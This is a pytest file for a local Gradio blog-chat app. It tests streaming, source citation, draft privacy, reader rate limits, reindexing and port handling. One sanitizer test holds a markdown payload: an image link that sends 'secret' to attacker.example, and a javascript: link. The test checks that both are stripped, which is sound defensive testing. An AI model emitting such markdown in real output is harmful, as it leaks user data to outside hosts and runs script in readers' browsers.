"""The Gradio app on loopback, driven by gradio_client the way a browser session drives it."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from conftest import SAMPLE_POSTS, free_port, run_cli, write
from gradio_client import Client

from localchat.config import Config
from localchat.serve.render import safe_markdown
from localchat.serve.server import serve

READER_AUTH = ("reader", "s3cret")


@pytest.fixture()
def owner(owner_app) -> Client:
    return Client(owner_app.url, verbose=False)


@pytest.fixture()
def reader(reader_app) -> Client:
    return Client(reader_app.url, verbose=False, auth=READER_AUTH)


def endpoints(client: Client) -> set[str]:
    return set(client.view_api(return_format="dict", print_info=False)["named_endpoints"])


def elem_ids(client: Client) -> set[str]:
    return {c.get("props", {}).get("elem_id") for c in client.config["components"]} - {None}


def test_chat_streams_and_lists_sources(owner) -> None:
    job = owner.submit("How often should I feed my sourdough starter?", api_name="/chat")
    outputs = list(job)
    assert len(outputs) > 2  # streamed in pieces
    first_text = outputs[0][0]
    # the passage that answers comes first, alone, before the model's first token, quoted with its link
    assert first_text.startswith("> ") and "Feed the starter equal weights" in first_text and first_text.endswith("\n\n")
    assert "Sourdough Starter Care" in first_text and "#feeding" in first_text
    text, sources = job.result()
    assert text.startswith(first_text)
    assert "Sourdough Starter Care" in sources and "#feeding" in sources


def test_refusal_is_shown_as_one(owner) -> None:
    text, sources = owner.predict("Who won the 1998 football world cup?", api_name="/chat")
    assert text.startswith("I haven't written about that.")
    assert "Nearest posts" in sources


def test_owner_sees_index_controls_and_readers_do_not(owner, reader) -> None:
    assert "/reindex" in endpoints(owner) and {"owner", "reindex"} <= elem_ids(owner)
    status = owner.predict(api_name="/reindex")
    assert "posts" in status and "Last sync" in status
    assert "/reindex" not in endpoints(reader) and not {"owner", "reindex"} & elem_ids(reader)


def test_reader_never_sees_a_draft_even_when_the_owner_indexed_it(owner, reader) -> None:
    question = "What are your plans to quit your job and move to Lisbon?"
    _, owner_sources = owner.predict(question, api_name="/chat")
    assert "Private Draft" in owner_sources  # the index holds it: the reader check below can fail
    text, reader_sources = reader.predict(question, api_name="/chat")
    assert "Private Draft" not in reader_sources and "DRAFTCANARY" not in text + reader_sources


def test_reader_questions_are_capped_and_rate_limited(reader_app) -> None:
    client = Client(reader_app.url, verbose=False, auth=READER_AUTH)
    text, _ = client.predict("x" * 1500, api_name="/chat")
    assert "under 1,000 characters" in text
    replies = [client.predict("Who won the 1998 football world cup?", api_name="/chat")[0] for _ in range(4)]
    assert any("please wait" in r for r in replies), replies  # burst of 3, then the limit
    other = Client(reader_app.url, verbose=False, auth=READER_AUTH)  # another reader is not affected
    assert "please wait" not in other.predict("Who won the 1998 football world cup?", api_name="/chat")[0]


def test_saving_a_post_reaches_the_running_app(owner_app, owner) -> None:
    posts = owner_app.service.engine.config.posts
    write(posts, "garden.md", "---\ntitle: Balcony Tomatoes\ndate: 2024-05-10\ntags: [garden]\n---\n"
          "Cherry tomatoes grow well in large pots. I feed them ZORBLAX-9 seaweed tonic every Friday.\n")
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        report = owner_app.service.last_sync
        if report and report.posts_embedded == 1:
            break
        time.sleep(0.5)
    assert report and (report.posts_embedded, report.posts_deleted) == (1, 0)  # only that post re-embedded
    _, sources = owner.predict("What seaweed tonic do you give the tomatoes?", api_name="/chat")
    assert "ZORBLAX-9" in sources

    (posts / "garden.md").unlink()  # deleting a post takes it out too
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and owner_app.service.last_sync.posts_deleted != 1:
        time.sleep(0.5)
    assert owner_app.service.last_sync.posts_deleted == 1
    _, sources = owner.predict("What seaweed tonic do you give the tomatoes?", api_name="/chat")
    assert "ZORBLAX-9" not in sources


@pytest.mark.fast
def test_model_output_cannot_carry_images_or_script_links() -> None:
    evil = 'Hi ![x](https://attacker.example/?q=secret) <img src="https://a.example/p.png"> [c](javascript:alert(1))'
    out = safe_markdown(evil)
    assert "attacker.example" not in out and "<img" not in out and "javascript:" not in out


@pytest.mark.fast
def test_share_without_auth_refuses(tmp_path: Path) -> None:
    write(tmp_path / "posts", "a.md", "---\ntitle: A\n---\nText.\n")
    result = run_cli("serve", "--share", "--posts", str(tmp_path / "posts"), "--index", str(tmp_path / "ix"),
                     cwd=tmp_path, timeout=300)
    assert result.returncode == 1
    assert "--share" in result.stderr and "--auth" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "ix").exists()  # refused before indexing anything


def test_serve_indexes_the_sample_blog_and_binds_loopback(tmp_path: Path) -> None:
    """A newcomer's first run: the page opens before the first index lands, with example questions
    all the same, and every link it shows opens a page (the app serves the sample posts itself,
    since their blog has no address), drafts never."""
    import httpx

    running = serve(Config(posts=SAMPLE_POSTS, index=tmp_path / "ix", port=free_port(), max_tokens=24),
                    prevent_thread_lock=True, start_wait=0)
    try:
        client = Client(running.url, verbose=False)
        examples = str([c["props"].get("examples") for c in client.config["components"]
                        if c.get("props", {}).get("elem_id") == "chat"])
        assert "latest post" in examples and "Half-finished" not in examples  # from the posts, drafts never
        running.wait_for_index()
        assert running.demo.server_name == "127.0.0.1" and running.url.startswith("http://127.0.0.1:")
        _, sources = Client(running.url, verbose=False).predict("How do you wire the BME280 sensor?",
                                                                api_name="/chat")
        assert "Raspberry Pi Weather Station" in sources
        assert running.service.last_sync.drafts_skipped == 1  # the sample blog's draft stays out
        base = running.url.rstrip("/")
        links = re.findall(r"\]\((/[^)\s]*)\)", sources)
        entries = running.service.engine.catalog()
        assert links and len(entries) == 11
        for url in links + [e.url for e in entries]:
            page = httpx.get(base + url, timeout=30)
            assert page.status_code == 200 and "text/html" in page.headers["content-type"], url
        weather = httpx.get(base + next(e.url for e in entries if "Weather" in e.title), timeout=30).text
        assert "<h1>Building a Raspberry Pi Weather Station</h1>" in weather and "BME280" in weather
        assert httpx.get(base + "/posts/leaving-my-job-draft/", timeout=30).status_code == 404
    finally:
        running.close()


def test_every_event_that_runs_the_model_waits_in_one_line(owner_app) -> None:
    fns = list(owner_app.demo.fns.values())
    model_events = [f for f in fns if f.concurrency_id == "model"]
    assert len(model_events) >= 2  # the chat box, its API endpoint, the examples...
    assert all(f.concurrency_limit == 1 for f in model_events)
    names = {getattr(f.fn, "__name__", "") for f in fns if f.concurrency_limit == 1 and f.concurrency_id != "model"}
    assert names <= {"reindex"}  # nothing else runs one at a time on its own line


def test_a_browser_that_goes_away_mid_answer_stops_the_model(tmp_path) -> None:
    """Speak Gradio's own queue protocol, read three streamed updates, then hang up."""
    import httpx
    from conftest import launch, record_answers

    app = launch(tmp_path, temperature=0.0, max_tokens=120, watch=False)
    try:
        answers = record_answers(app)
        config = httpx.get(app.url + "config", timeout=30).json()
        fn_index = next(i for i, d in enumerate(config["dependencies"]) if d.get("api_name") == "chat")
        question = "Describe everything about feeding and storing a sourdough starter, step by step."
        join = {"data": [question, []], "fn_index": fn_index, "session_hash": "gone", "event_data": None,
                "trigger_id": None}
        assert httpx.post(app.url + "gradio_api/queue/join", json=join, timeout=30).status_code == 200
        updates = 0
        with httpx.stream("GET", app.url + "gradio_api/queue/data", params={"session_hash": "gone"},
                          timeout=300) as stream:
            for line in stream.iter_lines():
                updates += "process_generating" in line
                if updates == 3:
                    break
        deadline = time.monotonic() + 30
        while not answers[-1]._pieces.closed and time.monotonic() < deadline:
            time.sleep(0.05)
        assert answers[-1]._pieces.closed and app.service.admission.inside == 0
        assert answers[-1].timings.tokens <= 8 < 120  # a few tokens past the hang-up, not the whole answer
        text, _ = Client(app.url, verbose=False).predict("How do I store the starter?", api_name="/chat")
        assert text  # the next reader is answered normally
    finally:
        app.close()


def test_the_empty_panel_and_the_examples_come_from_the_blog(owner, reader) -> None:
    def panel(client: Client) -> str:
        return next(c["props"]["value"] for c in client.config["components"]
                    if c.get("props", {}).get("elem_id") == "sources")

    def examples(client: Client) -> str:
        return str([c["props"].get("examples") for c in client.config["components"]
                    if c.get("props", {}).get("elem_id") == "chat"])

    assert "What this blog covers" in panel(reader) and "Raspberry Pi Weather Station" in panel(reader)
    assert "hardware" in panel(reader)  # a tag of the blog's
    assert "— 4 posts" in panel(owner) and "— 3 posts" in panel(reader)  # the owner indexed a draft
    assert "latest post" in examples(reader) and "Private Draft" not in examples(reader)


@pytest.mark.fast
def test_a_taken_port_is_one_clear_error_before_any_indexing(tmp_path: Path) -> None:
    import socket

    from localchat.errors import LocalchatError

    write(tmp_path / "posts", "a.md", "---\ntitle: A\n---\nText about kayaks.\n")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(LocalchatError, match=f"port {port} on 127.0.0.1 is already in use.*--port {port + 1}"):
            serve(Config(posts=tmp_path / "posts", index=tmp_path / "ix", port=port), prevent_thread_lock=True)
        result = run_cli("serve", "--posts", str(tmp_path / "posts"), "--index", str(tmp_path / "ix"),
                         "--port", str(port), cwd=tmp_path, timeout=300)
    assert result.returncode == 1 and "--port" in result.stderr
    assert "GRADIO_SERVER_PORT" not in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "ix").exists()  # found before anything was indexed


def test_published_posts_are_served_at_their_paths_and_drafts_never(owner_app, reader_app) -> None:
    import httpx

    owner, reader = owner_app.url.rstrip("/"), reader_app.url.rstrip("/")
    page = httpx.get(owner + "/posts/bread/", timeout=30)
    assert page.status_code == 200 and "Sourdough Starter Care" in page.text
    assert 'id="feeding"' in page.text  # the deep links' anchors land on their heading
    # the owner indexed the draft (include_drafts): its path is still no page, in either mode
    assert httpx.get(owner + "/posts/secret/", timeout=30).status_code == 404
    assert "DRAFTCANARY" not in httpx.get(owner + "/posts/secret/", timeout=30).text
    # behind --auth a post needs the app's login, like the app and the API; without it the path
    # is answered as any other path is (nothing tells a post's path from a made-up one)
    anonymous, made_up = httpx.get(reader + "/posts/bread/", timeout=30), httpx.get(reader + "/posts/nope/", timeout=30)
    assert anonymous.status_code == made_up.status_code != 200 and "Sourdough" not in anonymous.text
    assert httpx.get(reader + "/posts/bread/", auth=READER_AUTH, timeout=30).status_code == 200
    # a reader logged in through the page (Gradio's session cookie) reads the post, also with a stray
    # cookie of another app on the same host beside it
    with httpx.Client(timeout=30) as browser:
        assert browser.post(reader + "/login", data={"username": READER_AUTH[0], "password": READER_AUTH[1]}).is_success
        session = "; ".join(f"{name}={value}" for name, value in browser.cookies.items())
    assert "access-token" in session
    for cookie in (session, 'other={"a": 1}; bad name=1; ' + session):
        page = httpx.get(reader + "/posts/bread/", headers={"Cookie": cookie}, timeout=30)
        assert page.status_code == 200 and "Sourdough Starter Care" in page.text, cookie
    assert httpx.get(reader + "/posts/secret/", auth=READER_AUTH, timeout=30).status_code == 404


@pytest.mark.fast
def test_before_the_first_index_the_examples_come_from_the_posts_folder(tmp_path: Path) -> None:
    from localchat.engine import Engine
    from localchat.serve.app import example_questions

    engine = Engine(Config(posts=SAMPLE_POSTS, index=tmp_path / "no-index-yet"))
    examples = example_questions(engine)
    assert examples[0] == "What's your latest post?" and len(examples) == 4
    assert any("Year in Review" in q or "“" in q for q in examples)  # made from the blog's own titles
    assert not any("Half-finished" in q for q in examples)  # never a draft's
    assert not (tmp_path / "no-index-yet").exists()  # nothing was indexed for it
